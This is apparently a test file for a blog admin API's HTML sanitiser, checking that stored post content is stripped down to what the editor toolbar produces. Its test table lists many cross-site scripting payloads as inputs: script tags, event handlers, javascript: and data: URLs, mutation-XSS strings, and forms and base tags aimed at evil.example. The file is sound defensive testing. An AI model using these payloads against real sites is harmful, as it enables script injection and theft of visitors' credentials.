import { beforeEach, describe, expect, test } from 'vitest'
import { openTestSite } from '../../../tests/fixtures/create-test-site'
import { meant, written } from '../../../tests/fixtures/meaning'
import { send } from '../../../tests/fixtures/staff-calls'

const IMAGE = '/uploads/abc-1/1200x675-aabbcc-ddeeff/1200.webp'
const text = { title: 'A title', slug: 'a-title', content: '<p>A text.</p>' }

const site = await openTestSite()
const staff = await site.logIn()
beforeEach(() => site.db.deleteFrom('blogPosts').execute())

test('what formatting means is stored as written by the editor: figures, ticks, notes, tables', async () => {
  const content = (await written('web.html')).replace(
    'style="list-style-type: upper-roman"',
    'type="I"',
  )
  const json = { ...text, content }
  const answer = await site.request('/api/admin/blog', { method: 'POST', headers: staff, json })
  expect(answer.status).toBe(201)
  expect((await answer.json()).content).toBe(await meant('web'))
})

describe('what is stored is what the toolbar makes, on writing and on changing', () => {
  const link = '<a href="https://example.org/" target="_blank" rel="noopener">b</a>'
  test.each([
    ['<p>a</p><script>alert(1)</script>', '<p>a</p>'],
    ['<p>a</p><SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<p>a</p>'],
    ['<scr<script>ipt>alert(1)</script><p>a</p>', '<p>ipt&gt;alert(1)</p><p>a</p>'],
    ['<p onclick="alert(1)" onmouseover=alert(1)>a</p>', '<p>a</p>'],
    ['<p/onclick=alert(1)>a</p>', '<p>a</p>'],
    ['<p style="position:fixed;inset:0">a</p>', '<p>a</p>'],
    ['<p class="fixed inset-0 align-center">a</p>', '<p class="align-center">a</p>'],
    [
      '<span class="size-large align-center" id="root">a</span>',
      '<p><span class="size-large">a</span></p>',
    ],
    ['<p>a <a href="javascript:alert(1)">b</a></p>', '<p>a b</p>'],
    ['<p>a <a href=" &#106;ava&Tab;script:alert(1)">b</a></p>', '<p>a b</p>'],
    ['<p>a <a href="vbscript:x">b</a></p>', '<p>a b</p>'],
    ['<p>a <a href="data:text/html,<script>1</script>">b</a></p>', '<p>a b</p>'],
    ['<p>a <a href="blob:https://example.org/1">b</a></p>', '<p>a b</p>'],
    ['<p>a <a name="root">b</a></p>', '<p>a b</p>'],
    [`<p>${link}</p>`, `<p>${link}</p>`],
    [
      '<p><a href="https://example.org/" target="_self" rel="opener" download>b</a></p>',
      `<p>${link}</p>`,
    ],
    [
      `<img src="${IMAGE}" alt="A" width="600" height="338" onerror="x" srcset="//evil.example 1x">`,
      `<img src="${IMAGE}" alt="A" width="600" height="338" loading="lazy" />`,
    ],
    ['<p>a</p><img src="data:image/svg+xml,<svg onload=alert(1)>">', '<p>a</p>'],
    ['<p>a</p><img src="/api/auth/status">', '<p>a</p>'],
    ['<p>a</p><img src="/uploads/../api/auth/logout">', '<p>a</p>'],
    ['<p>a</p><img src="/uploads/incoming/abc">', '<p>a</p>'],
    ['<svg><style><img src=x onerror=alert(1)></style></svg><p>a</p>', '<p>a</p>'],
    [
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math><p>a</p>',
      '<p>a</p>',
    ],
    ['<noscript><p title="</noscript><img src=x onerror=alert(1)>">a</p></noscript>', '<p>a</p>'],
    [
      '<form action="//evil.example"><input name="password"><button>Go</button></form><p>a</p>',
      '<p>Go</p><p>a</p>',
    ],
    ['<textarea><p>b</p></textarea><select><option>c</option></select><p>a</p>', '<p>a</p>'],
    [
      '<iframe srcdoc="<script>1</script>"></iframe><object data="x"></object><embed src="x"><p>a</p>',
      '<p>a</p>',
    ],
    [
      '<base href="//evil.example"><meta http-equiv="refresh" content="0;//evil.example"><link rel="stylesheet" href="x"><p>a</p>',
      '<p>a</p>',
    ],
    ['<style>*{display:none}</style><title>b</title><p>a</p>', '<p>b</p><p>a</p>'],
    [
      '<video src=x onerror=alert(1)></video><audio src=x></audio><details open ontoggle=alert(1)>b</details><p>a</p>',
      '<p>b</p><p>a</p>',
    ],
    ['<p>a<!-- --><!--[if IE]><script>1</script><![endif]--></p>', '<p>a</p>'],
    [
      '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
      '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
    ],
    [
      '<p><font color="red" size="7">a</font><o:p></o:p><b style="font-weight:normal">b</b></p>',
      '<p>a<strong>b</strong></p>',
    ],
    ['<div><h4>a</h4><center>b</center></div>', '<h3>a</h3><p>b</p>'],
  ])('%s', async (content, stored) => {
    const first = await create({ ...text, content })
    expect(first.body.content).toBe(stored)
    const other = { ...text, slug: 'other' }
    const { body: post } = await create(other)
    const path = `/api/admin/blog/${post.id}`
    const second = await send(site, { method: 'PUT', path, json: { ...other, content } }, staff)
    expect(second.body.content).toBe(stored)
    const rows = await site.db.selectFrom('blogPosts').select('content').execute()
    expect(rows).toEqual([{ content: stored }, { content: stored }])
  })

  test('and no HTML is made of a title, an excerpt or a tag', async () => {
    const html = '<b>&amp;</b>'
    const json = { ...text, title: html, excerpt: html, tags: [html], category: html }
    expect((await create(json)).body).toMatchObject(json)
  })
})

const create = (json: unknown) =>
  send(site, { method: 'POST', path: '/api/admin/blog', json }, staff)
